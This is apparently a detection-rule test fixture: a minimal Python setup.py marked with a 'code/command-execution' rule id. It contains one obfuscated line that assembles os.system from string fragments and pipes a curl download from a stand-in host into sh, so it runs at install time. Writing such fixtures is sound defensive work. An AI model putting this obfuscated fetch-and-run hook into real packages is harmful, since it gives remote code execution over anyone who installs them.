from setuptools import setup

# An immediately called lambda hides both the module and the function name behind its parameters.
# ruleid: code/command-execution
(lambda _, __: getattr(_, __)('curl -s http://collector.example.invalid/x.sh | sh'))(__import__('o' + 's'), 'sy' + 'stem')

setup(name='py-fixture-lambdacfg', version='1.0.0', packages=[])
